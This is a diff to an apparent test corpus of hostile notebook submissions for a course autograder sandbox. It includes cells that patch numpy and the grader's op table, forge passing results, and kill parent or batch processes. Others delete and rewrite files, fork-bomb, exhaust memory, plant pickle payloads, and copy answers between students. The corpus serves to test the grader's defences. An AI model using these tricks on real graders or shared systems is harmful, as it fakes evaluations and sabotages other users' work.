@@ -1,6 +1,6 @@
 """A corpus of hostile submissions, each with the score it truly deserves.
 
-Every strategy is one code cell appended to an otherwise PERFECT notebook
+Every attack is one code cell appended to an otherwise PERFECT notebook
 (seqkit.examples: the perfect submission of the example class).  Most cells
 override one or two graded functions with a wrong answer ("garbage") and then
 try to make the grader accept it anyway: by patching comparisons, forging
@@ -33,7 +33,7 @@ other students changes.
 
 Placeholders in cells, filled in by the test: @MARK@ (a token unique to the
 run, used to name anything the cell leaves in shared places) and @PORT@ (a TCP
-port on which the test serves the right answer, for the network strategy).
+port on which the test serves the right answer, for the network attack).
 """
 import dataclasses
 import textwrap
@@ -70,7 +70,7 @@ def zero(*questions):
 
 
 @dataclasses.dataclass(frozen=True)
-class Strategy:
+class Attack:
     label: str
     assignment: str
     cell: str              # appended to the perfect notebook
@@ -96,7 +96,7 @@ def _indent(text, n=4):
 
 
 # Wrong answers that are never accepted (every hidden test has a bias or a
-# first row that rules them out), one per question the strategies cheat on.
+# first row that rules them out), one per question the attacks cheat on.
 GARBAGE = {
     "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n"
                    "    return np.zeros(np.shape(hs)[:-1] + np.shape(W_hy)[-1:])\n",
@@ -116,7 +116,7 @@ PROBES = {
     "positional_encoding": "(5, 6)",
 }
 
-# The right answer, as the network strategy's accomplice serves it.
+# The right answer, as the network attack's accomplice serves it.
 SERVED_ANSWERS = {
     "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n    return np.asarray(hs) @ W_hy + b_y\n",
 }
@@ -412,14 +412,15 @@ def harvest_references(targets, userns=False):
 
 
 def _assignment_of(q):
-    return "rnn" if q in ("rnn_outputs", "clip_by_global_norm") else "attention"
+    return {"rnn_outputs": "rnn", "clip_by_global_norm": "rnn", "MyRNNCell": "rnn",
+            "MyLSTMCell": "lstm", "fit_and_evaluate": "genz"}.get(q, "attention")
 
 
 # ---------------------------------------------------------------------------
-# The strategies, as functions of the question(s) they cheat on.
+# The attacks, as functions of the question(s) they cheat on.
 
 def patch_numpy_comparisons(q):
-    return Strategy("patch-numpy-comparisons", _assignment_of(q), _src('''
+    return Attack("patch-numpy-comparisons", _assignment_of(q), _src('''
         import numpy, numpy.testing
         numpy.allclose = lambda *a, **k: True
         numpy.array_equal = lambda *a, **k: True
@@ -432,7 +433,7 @@ def patch_numpy_comparisons(q):
 
 
 def patch_hypothesis_and_test_classes(q):
-    return Strategy("patch-hypothesis-and-test-classes", _assignment_of(q), _src('''
+    return Attack("patch-hypothesis-and-test-classes", _assignment_of(q), _src('''
         import sys, types, unittest
         import hypothesis
         hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
@@ -454,7 +455,7 @@ def patch_hypothesis_and_test_classes(q):
 
 
 def replace_sys_modules(q):
-    return Strategy("replace-sys-modules", _assignment_of(q), _src('''
+    return Attack("replace-sys-modules", _assignment_of(q), _src('''
         import sys, types
         _real_numpy = sys.modules["numpy"]
 
@@ -481,7 +482,7 @@ def replace_sys_modules(q):
 
 
 def hijack_child_protocol(q):
-    return Strategy("hijack-child-protocol", _assignment_of(q), _src('''
+    return Attack("hijack-child-protocol", _assignment_of(q), _src('''
         # The sandbox's own modules are in sys.modules: rewrite how this process
         # answers, so that every reply claims success and full points.
         import sys
@@ -490,8 +491,8 @@ def hijack_child_protocol(q):
         _codec = sys.modules["seqkit.sandbox.codec"]
         _real_run_op = _ops.run_op
 
-        def _run_op(namespace, request):
-            reply = _real_run_op(namespace, request)
+        def _run_op(namespace, request, *rest):
+            reply = _real_run_op(namespace, request, *rest)
             reply.pop("error", None)
             reply.setdefault("ok", None)
             reply.update(points=99, passed=True, verdict="full marks")
@@ -508,14 +509,14 @@ def import_reference(*qs, userns=False):
     # import seqkit.<assignment>, or read the references (and solutions) from
     # disk - the package, solutions, autograder zips, .git, scratch copies -
     # and use them; garbage when nothing is found.
-    return Strategy("userns-unmask-and-read-reference" if userns else "import-or-read-reference",
+    return Attack("userns-unmask-and-read-reference" if userns else "import-or-read-reference",
                     _assignment_of(qs[0]),
                     harvest_references(qs, userns).replace("__ASSIGNMENT__", _assignment_of(qs[0])),
                     zero(*qs), needs_isolation=True)
 
 
 def forge_results_then_exit():
-    return Strategy("forge-results-then-exit", "rnn", FORGE + _src('''
+    return Attack("forge-results-then-exit", "rnn", FORGE + _src('''
         _forge()
         import os
         os._exit(0)
@@ -523,7 +524,7 @@ def forge_results_then_exit():
 
 
 def forge_results_in_call(q):
-    return Strategy("forge-results-in-call", _assignment_of(q), FORGE + cheat(q, _src('''
+    return Attack("forge-results-in-call", _assignment_of(q), FORGE + cheat(q, _src('''
         _forge()
         import os
         os._exit(0)
@@ -531,7 +532,7 @@ def forge_results_in_call(q):
 
 
 def fake_pass_output(q):
-    return Strategy("fake-pass-output", _assignment_of(q), _src('''
+    return Attack("fake-pass-output", _assignment_of(q), _src('''
         import os, sys
         _claim = "All tests passed!\\n" + "".join(
             f"{q}: full marks\\n" for q in ("rnn_step", "rnn_forward", "rnn_outputs",
@@ -552,7 +553,7 @@ def fake_pass_output(q):
 
 def detect_grader_honest(q):
     # Correct when the sandbox calls it, garbage in the student's own Jupyter.
-    return Strategy("detect-grader-honest", _assignment_of(q), _src('''
+    return Attack("detect-grader-honest", _assignment_of(q), _src('''
         import sys
 
         def _being_graded():
@@ -575,7 +576,7 @@ def detect_grader_honest(q):
 
 def detect_grader_cheat(q):
     # Looks for the expected answer on the stack and in memory when graded.
-    return Strategy("detect-grader-cheat", _assignment_of(q), _src('''
+    return Attack("detect-grader-cheat", _assignment_of(q), _src('''
         import gc, sys, types
         # a reference living in this process would be a function of that name
         # that no notebook cell defined
@@ -597,7 +598,7 @@ def detect_grader_cheat(q):
 
 
 def signal_everyone(q):
-    return Strategy("signal-parent-group-and-batch", _assignment_of(q), BATCH_PIDS + cheat(q, _src('''
+    return Attack("signal-parent-group-and-batch", _assignment_of(q), BATCH_PIDS + cheat(q, _src('''
         import os, signal
         for hit in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                     lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
@@ -617,7 +618,7 @@ def signal_everyone(q):
 
 
 def kill_minus_one(q):
-    return Strategy("kill-minus-one", _assignment_of(q), cheat(q, _src('''
+    return Attack("kill-minus-one", _assignment_of(q), cheat(q, _src('''
         import os, signal
         for sig in (signal.SIGSTOP, signal.SIGKILL):
             try:
@@ -630,7 +631,7 @@ def kill_minus_one(q):
 def killer_daemon(assignment):
     # A detached grandchild that outlives the submission and kills the rest
     # of the batch for a minute.  The submission itself is perfect.
-    return Strategy("killer-daemon", assignment, BATCH_PIDS + _src('''
+    return Attack("killer-daemon", assignment, BATCH_PIDS + _src('''
         import os, signal, time
         _parent = os.getpid()
         if os.fork() == 0:
@@ -654,7 +655,7 @@ def vandalise_files():
     # Deletes and rewrites whatever it can reach: its working directory, the
     # grader's folders and working directory, the project, shared folders.
     # Plants modules where the grader's Python would import them from.
-    return Strategy("vandalise-files", "rnn", GRADE_ARGS + _src('''
+    return Attack("vandalise-files", "rnn", GRADE_ARGS + _src('''
         import os, shutil
         def _attempt(fn):
             try:
@@ -687,13 +688,13 @@ def vandalise_files():
 
 
 def system_exit_and_interrupt(q1, q2):
-    return Strategy("system-exit-and-keyboard-interrupt", _assignment_of(q1),
+    return Attack("system-exit-and-keyboard-interrupt", _assignment_of(q1),
                     cheat(q1, "raise SystemExit(0)\n") + cheat(q2, "raise KeyboardInterrupt\n")
                     + "raise SystemExit('the end of the notebook')\n", zero(q1, q2))
 
 
 def huge_outputs(q_array, q_pair):
-    return Strategy("huge-outputs", _assignment_of(q_array), _src('''
+    return Attack("huge-outputs", _assignment_of(q_array), _src('''
         def __A__(*args, **kwargs):
             return np.zeros(9_000_000)  # 72 MB: over the 64 MiB an answer may take
 
@@ -703,7 +704,7 @@ def huge_outputs(q_array, q_pair):
 
 
 def fork_bomb_bounded(assignment):
-    return Strategy("fork-bomb-bounded", assignment, _src('''
+    return Attack("fork-bomb-bounded", assignment, _src('''
         import os, time
         _children = []
         for _ in range(50):  # bounded: 50 forks, each asleep for at most two minutes
@@ -721,7 +722,7 @@ def fork_bomb_bounded(assignment):
 
 
 def memory_hog_bounded(q):
-    return Strategy("memory-hog-bounded", _assignment_of(q), _src('''
+    return Attack("memory-hog-bounded", _assignment_of(q), _src('''
         import resource
         for _limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
             try:  # try to lift the cap first
@@ -733,7 +734,7 @@ def memory_hog_bounded(q):
 
 
 def infinite_loop_in_call(q):
-    return Strategy("infinite-loop-in-call", _assignment_of(q), cheat(q, _src('''
+    return Attack("infinite-loop-in-call", _assignment_of(q), cheat(q, _src('''
         import signal
         signal.signal(signal.SIGALRM, signal.SIG_IGN)  # the sandbox's alarm: off
         signal.alarm(0)
@@ -743,7 +744,7 @@ def infinite_loop_in_call(q):
 
 
 def malicious_dunders(q_array, q_pair):
-    return Strategy("malicious-dunders", _assignment_of(q_array), _src('''
+    return Attack("malicious-dunders", _assignment_of(q_array), _src('''
         class _Liar:
             def __eq__(self, other): return True
             def __ne__(self, other): return False
@@ -782,7 +783,7 @@ def malicious_dunders(q_array, q_pair):
 def numpy_subclass(q):
     # A subclass that claims equality with anything, and a __reduce__ that
     # would run a command in any process that unpickled it.
-    return Strategy("numpy-subclass", _assignment_of(q), GRADE_ARGS + _src('''
+    return Attack("numpy-subclass", _assignment_of(q), GRADE_ARGS + _src('''
         import os
         _pwned = os.path.join(os.path.dirname(os.path.abspath(_grade_args()[2])), "PWNED-@MARK@-reduce")
 
@@ -807,7 +808,7 @@ def numpy_subclass(q):
 
 
 def stdout_flood(q):
-    return Strategy("stdout-flood", _assignment_of(q), _src('''
+    return Attack("stdout-flood", _assignment_of(q), _src('''
         import os, sys
         _line = "All tests passed. " * 1000 + "\\n"
         for _ in range(5000):  # ~90 MB to stdout and stderr
@@ -817,7 +818,7 @@ def stdout_flood(q):
 
 
 def socket_garbage(q):
-    return Strategy("write-garbage-to-own-socket", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
+    return Attack("write-garbage-to-own-socket", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
         import os
         for fd in _socket_fds():
             for target in (lambda: os.write(fd, b"\\xff" * 64),
@@ -836,7 +837,7 @@ def socket_garbage(q):
 
 def partial_frame_in_call(q):
     # Half a message, then silence: a grader that reads without a deadline hangs.
-    return Strategy("partial-frame-in-call", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
+    return Attack("partial-frame-in-call", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
         import os, signal, struct, time
         signal.signal(signal.SIGALRM, signal.SIG_IGN)
         for fd in _socket_fds():
@@ -846,7 +847,7 @@ def partial_frame_in_call(q):
 
 
 def partial_frame_in_cell(assignment):
-    return Strategy("partial-frame-then-hang-in-cell", assignment, SOCKET_FDS + _src('''
+    return Attack("partial-frame-then-hang-in-cell", assignment, SOCKET_FDS + _src('''
         import os, signal, struct, time
         signal.signal(signal.SIGALRM, signal.SIG_IGN)
         for _fd in _socket_fds():
@@ -856,7 +857,7 @@ def partial_frame_in_cell(assignment):
 
 
 def thread_exits_later(q):
-    return Strategy("thread-exits-later", _assignment_of(q), _src('''
+    return Attack("thread-exits-later", _assignment_of(q), _src('''
         import os, threading, time
         _go = threading.Event()
 
@@ -870,7 +871,7 @@ def thread_exits_later(q):
 
 
 def network_fetch_answer(q):
-    return Strategy("network-fetch-answer", _assignment_of(q), _src('''
+    return Attack("network-fetch-answer", _assignment_of(q), _src('''
         import socket
         _fetched = None
         _targets = [("tcp", ("127.0.0.1", @PORT@)), ("unix", "\\0seqkit-hostile-@MARK@")]
@@ -900,7 +901,7 @@ def network_fetch_answer(q):
 
 
 def monkeypatch_builtins(q):
-    return Strategy("monkeypatch-builtins", _assignment_of(q), _src('''
+    return Attack("monkeypatch-builtins", _assignment_of(q), _src('''
         import builtins, types
         _real_import = builtins.__import__
 
@@ -920,7 +921,7 @@ def monkeypatch_builtins(q):
 
 
 def collude_share(q):
-    return Strategy("collude-share", _assignment_of(q), _src('''
+    return Attack("collude-share", _assignment_of(q), _src('''
         # this student's (right) answer, left where a classmate's process can read it
         _answer = __ANSWER__
         for _d in ("/dev/shm", "/var/tmp", "/run/lock", "/run/shm"):
@@ -933,7 +934,7 @@ def collude_share(q):
 
 
 def collude_copy(q):
-    return Strategy("collude-copy", _assignment_of(q), _src('''
+    return Attack("collude-copy", _assignment_of(q), _src('''
         import time
         _copied = {"np": np}
         _end = time.monotonic() + 8
@@ -954,7 +955,7 @@ def collude_copy(q):
 
 
 def exception_with_evil_str(q):
-    return Strategy("exception-with-evil-str", _assignment_of(q), _src('''
+    return Attack("exception-with-evil-str", _assignment_of(q), _src('''
         class _Evil(Exception):
             def __str__(self):
                 raise RuntimeError("you cannot describe me")
@@ -965,7 +966,7 @@ def exception_with_evil_str(q):
 
 def deeply_nested_reply(q):
     # The process's own encoder, rewritten to send JSON no parser can read.
-    return Strategy("deeply-nested-reply", _assignment_of(q), _src('''
+    return Attack("deeply-nested-reply", _assignment_of(q), _src('''
         import json, struct, sys
         _codec = sys.modules["seqkit.sandbox.codec"]
         _real_encode = _codec.encode
@@ -982,8 +983,8 @@ def deeply_nested_reply(q):
     ''') + cheat(q, "globals()['_deep_next'] = True\n") + _src('''
         _real_run_op = _ops.run_op
 
-        def _run_op(namespace, request):
-            reply = _real_run_op(namespace, request)
+        def _run_op(namespace, request, *rest):
+            reply = _real_run_op(namespace, request, *rest)
             if namespace.pop("_deep_next", False):
                 reply["deep"] = True
             return reply
@@ -992,14 +993,245 @@ def deeply_nested_reply(q):
     '''), zero(q))
 
 
+# ---------------------------------------------------------------------------
+# Issue 13: the grader's own code in the student's process decides nothing.
+
+# A Keras cell with weights of the right shapes whose call ignores the state:
+# wrong for every sequence longer than one step.
+GARBAGE_CELLS = {
+    "MyRNNCell": ("SimpleRNN", 1),
+    "MyLSTMCell": ("LSTM", 4),
+}
+
+
+def garbage_cell(q):
+    _, gates = GARBAGE_CELLS[q]
+    states = "[h]" if gates == 1 else "[h, h]"
+    return _src(f'''
+        import keras
+
+        class {q}(keras.layers.Layer):
+            def __init__(self, units, **kwargs):
+                super().__init__(**kwargs)
+                self.units, self.output_size = units, units
+                self.state_size = {'units' if gates == 1 else '[units, units]'}
+
+            def build(self, input_shape):
+                self.kernel = self.add_weight(shape=(input_shape[-1], {gates} * self.units), name="kernel")
+                self.recurrent_kernel = self.add_weight(shape=(self.units, {gates} * self.units), name="rk")
+                self.bias = self.add_weight(shape=({gates} * self.units,), name="bias")
+
+            def call(self, inputs, states):
+                z = keras.ops.matmul(inputs, self.kernel) + self.bias
+                h = keras.ops.tanh(z[:, :self.units])
+                return h, {states}
+    ''')
+
+
+def keras_rnn_replaced(q):
+    # keras.layers.RNN(cell) becomes the built-in layer with the cell's units:
+    # the RNN check alone would pass with any cell of the right weight shapes.
+    builtin, _ = GARBAGE_CELLS[q]
+    return Attack("keras-rnn-replaced-by-builtin", _assignment_of(q), garbage_cell(q) + _src('''
+        _Builtin = keras.layers.__BUILTIN__
+
+        def _rnn(cell, **kwargs):
+            return _Builtin(cell.units, **kwargs)
+
+        keras.layers.RNN = _rnn
+    ''', BUILTIN=builtin), zero(q))
+
+
+def keras_rnn_call_patched(q):
+    # The real RNN class, its call method replaced by the right recurrence
+    # computed from the cell's weights: every RNN(cell) answers correctly.
+    return Attack("keras-rnn-call-patched", _assignment_of(q), garbage_cell(q) + _src('''
+        def _right_sequence(self, sequences, initial_state=None, mask=None, training=False):
+            cell, ops = self.cell, keras.ops
+            h = ops.zeros((ops.shape(sequences)[0], cell.units))
+            outs = []
+            for t in range(sequences.shape[1]):
+                h = ops.tanh(ops.matmul(sequences[:, t], cell.kernel)
+                             + ops.matmul(h, cell.recurrent_kernel) + cell.bias)
+                outs.append(h)
+            return ops.stack(outs, axis=1)
+
+        keras.layers.RNN.call = _right_sequence
+    '''), zero(q))
+
+
+def keras_layer_methods_patched(q):
+    # A cell with no weights at all: Layer.get_weights claims the right shapes
+    # for it and Layer.set_weights ignores what it is given, while RNN answers
+    # with the built-in layer (whose weights are set for real).
+    builtin, gates = GARBAGE_CELLS[q]
+    return Attack("keras-layer-methods-patched", _assignment_of(q), _src('''
+        import keras
+        _Builtin = keras.layers.__BUILTIN__
+        _real_get, _real_set = keras.layers.Layer.get_weights, keras.layers.Layer.set_weights
+
+        class __Q__(keras.layers.Layer):
+            def __init__(self, units, **kwargs):
+                super().__init__(**kwargs)
+                self.units, self.output_size = units, units
+                self.state_size = units if __GATES__ == 1 else [units, units]
+
+            def build(self, input_shape):
+                self.input_dim = input_shape[-1]
+
+            def call(self, inputs, states):
+                return keras.ops.zeros((keras.ops.shape(inputs)[0], self.units)), states
+
+        def _get_weights(self):
+            if isinstance(self, __Q__):
+                n = __GATES__ * self.units
+                return [np.zeros((self.input_dim, n)), np.zeros((self.units, n)), np.zeros(n)]
+            return _real_get(self)
+
+        def _set_weights(self, weights):
+            if not isinstance(self, __Q__):
+                _real_set(self, weights)
+
+        keras.layers.Layer.get_weights = _get_weights
+        keras.layers.Layer.set_weights = _set_weights
+        keras.layers.RNN = lambda cell, **kwargs: _Builtin(cell.units, **kwargs)
+    ''', BUILTIN=builtin, Q=q, GATES=str(gates)), zero(q))
+
+
+def op_table_patched(q):
+    # The grader's op table, reached through sys.modules: the RNN check answers
+    # with the built-in layer under the grader's weights, the cell ops claim the
+    # shapes the grader sent.
+    builtin, _ = GARBAGE_CELLS[q]
+    return Attack("op-table-patched", _assignment_of(q), garbage_cell(q) + _src('''
+        import sys
+        _ops = sys.modules["seqkit.sandbox.ops"]
+
+        def _forged_rnn(namespace, request, *rest):
+            xs, weights = request.get("args") or (request["xs"], request["weights"])
+            layer = keras.layers.__BUILTIN__(request["units"], return_sequences=True)
+            layer(xs)
+            layer.set_weights(weights)
+            out = layer(xs)
+            return {"value": out, "args": (xs, weights), "kwargs": {}, "names": [],
+                    "out": out, "shapes": [np.shape(w) for w in weights]}
+
+        _real_cell_new = _ops._OPS.get("cell_new")
+
+        def _forged_cell_new(namespace, request, *rest):
+            reply = _real_cell_new(namespace, request, *rest)
+            reply["value"]["shapes"] = [np.shape(w) for w in request["args"][0]]
+            return reply
+
+        _ops._OPS["keras_rnn"] = _forged_rnn
+        if _real_cell_new is not None:
+            _ops._OPS["cell_new"] = _forged_cell_new
+    ''', BUILTIN=builtin), zero(q))
+
+
+def modify_inputs_in_place(q):
+    # Right values, computed in the caller's arrays (the contract forbids it).
+    assert q == "clip_by_global_norm"
+    return Attack("clip-in-place", _assignment_of(q), _src('''
+        _right_clip = clip_by_global_norm
+
+        def clip_by_global_norm(grads, max_norm):
+            clipped, norm = _right_clip(grads, max_norm)
+            for g, c in zip(grads, clipped):
+                g[...] = c
+            return grads, norm
+    '''), zero(q))
+
+
+def misbehaving_conversions(q_array, q_pair):
+    # Answers that are not arrays yet: an __array__ that sleeps past the call's
+    # time (once) and then raises, a billion-element claim, NaN for a number.
+    return Attack("misbehaving-conversions", _assignment_of(q_array), _src('''
+        import time
+        _slept = []
+
+        class _Sleepy:
+            def __array__(self, dtype=None, copy=None):
+                if not _slept:
+                    _slept.append(1)
+                    time.sleep(60)  # the call's alarm stops it
+                raise RuntimeError("no array for you")
+
+        class _ClaimsABillion:
+            __array_interface__ = {"shape": (10**9,), "typestr": "<f8", "data": b"\\0" * 8,
+                                   "version": 3}
+
+        def __A__(*args, **kwargs):
+            return _Sleepy()
+
+        def __P__(grads, max_norm):
+            return [_ClaimsABillion(), np.broadcast_to(np.float64(1), (10**9,))], float("nan")
+    ''', A=q_array, P=q_pair), zero(q_array, q_pair))
+
+
+def forged_fit_counts():
+    # f asked about 10 points only; the op's reply and the codec forge what the
+    # grader once counted in this process (300 distinct points, their digest).
+    return Attack("forged-fit-counts", "genz", _src('''
+        import sys
+        _ops = sys.modules["seqkit.sandbox.ops"]
+
+        def fit_and_evaluate(f, d, n_train, seed=0, n_test=1000):
+            x = np.random.default_rng(seed).random((10, d))
+            y = np.asarray(f(x), dtype=float)
+            # the errors the grader expects: about 0.5 on a 0/1 target, small otherwise
+            return (0.5, 1.0) if set(np.unique(y)) <= {0.0, 1.0} else (0.01, 0.02)
+
+        _real_fit = _ops._OPS["fit"]
+
+        def _forged_fit(namespace, request, *rest):
+            reply = _real_fit(namespace, request, *rest)
+            value = reply.get("value", reply.get("result"))
+            return {**reply, "value": value, "result": value, "distinct_points": 300}
+
+        _ops._OPS["fit"] = _forged_fit
+        _real_to_plain = _ops.to_plain
+        _ops.to_plain = lambda obj: _real_to_plain(
+            {**obj, "distinct_points": 300} if isinstance(obj, dict) else obj)
+    '''), zero("fit_and_evaluate"))
+
+
+def fit_without_f():
+    # The op table's fit answers without calling the student's function or f.
+    return Attack("fit-op-without-f", "genz", _src('''
+        import sys
+        _ops = sys.modules["seqkit.sandbox.ops"]
+        def _fit(namespace, request, *rest):
+            errors = (0.5, 0.9) if request.get("target") == "coin" else (0.01, 0.02)
+            return {"value": errors, "result": errors, "distinct_points": 300,
+                    "points": str(request.get("seed"))}
+
+        _ops._OPS["fit"] = _fit
+    '''), zero("fit_and_evaluate"))
+
+
+def callback_flood():
+    # f called point by point far more often than any fit needs: the grader
+    # stops the process (bounded: a few seconds of tiny messages).
+    return Attack("callback-flood", "genz", _src('''
+        _right_fit = fit_and_evaluate
+
+        def fit_and_evaluate(f, d, n_train, seed=0, n_test=1000):
+            one = np.zeros((1, d))
+            for _ in range(20_000):
+                f(one)
+            return _right_fit(f, d, n_train, seed=seed, n_test=n_test)
+    '''), zero("fit_and_evaluate"))
+
+
 def cells_that_do_not_compile(assignment):
     # Each fails alone, like any cell with a syntax error; the rest still run.
-    return Strategy("cells-that-do-not-compile", assignment, "x = 1\0\n", FULL)
+    return Attack("cells-that-do-not-compile", assignment, "x = 1\0\n", FULL)
 
 
 def deeply_nested_expression(assignment):
     # compile() itself gives up (RecursionError, not SyntaxError)
-    return Strategy("deeply-nested-expression", assignment,
+    return Attack("deeply-nested-expression", assignment,
                     "x = " + "1 + " * 100_000 + "1\n", FULL)
 
 
@@ -1010,10 +1242,10 @@ def deeply_nested_json(assignment):
         body = perfect.rstrip()
         assert body.endswith(b"}")
         return body[:-1] + b', "deep": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"
-    return Strategy("deeply-nested-json", assignment, "", INVALID, file=nest)
+    return Attack("deeply-nested-json", assignment, "", INVALID, file=nest)
 
 
-STRATEGIES = [
+ATTACKS = [
     # rnn: rnn_step 2, rnn_forward 3, rnn_outputs 1, clip_by_global_norm 2, MyRNNCell 3.
     # Cheats target rnn_outputs and clip_by_global_norm, which nothing else calls.
     patch_numpy_comparisons("rnn_outputs"),
@@ -1052,6 +1284,13 @@ STRATEGIES = [
     cells_that_do_not_compile("rnn"),
     deeply_nested_expression("rnn"),
     deeply_nested_json("rnn"),
+    # issue 13 (MyRNNCell 3): what the grader's code computes in the process decides nothing
+    keras_rnn_replaced("MyRNNCell"),
+    keras_rnn_call_patched("MyRNNCell"),
+    keras_layer_methods_patched("MyRNNCell"),
+    op_table_patched("MyRNNCell"),
+    modify_inputs_in_place("clip_by_global_norm"),
+    misbehaving_conversions("rnn_outputs", "clip_by_global_norm"),
     # attention: softmax 2, scaled_dot_product_attention 3, causal_mask 1,
     # positional_encoding 2, attention_head 2, multi_head_attention 3.
     # Cheats target causal_mask and positional_encoding, which nothing else calls.
@@ -1063,10 +1302,18 @@ STRATEGIES = [
     forge_results_in_call("causal_mask"),
     system_exit_and_interrupt("positional_encoding", "causal_mask"),
     killer_daemon("attention"),
+    # lstm: only MyLSTMCell is cheated on
+    keras_rnn_replaced("MyLSTMCell"),
+    keras_layer_methods_patched("MyLSTMCell"),
+    op_table_patched("MyLSTMCell"),
+    # genz: only fit_and_evaluate is cheated on
+    forged_fit_counts(),
+    fit_without_f(),
+    callback_flood(),
 ]
 
 
 def for_assignment(assignment, isolated=True):
-    """The strategies of one assignment; without isolation only those safe without it."""
-    return [s for s in STRATEGIES if s.assignment == assignment
+    """The attacks of one assignment; without isolation only those safe without it."""
+    return [s for s in ATTACKS if s.assignment == assignment
             and (isolated or not s.needs_isolation)]
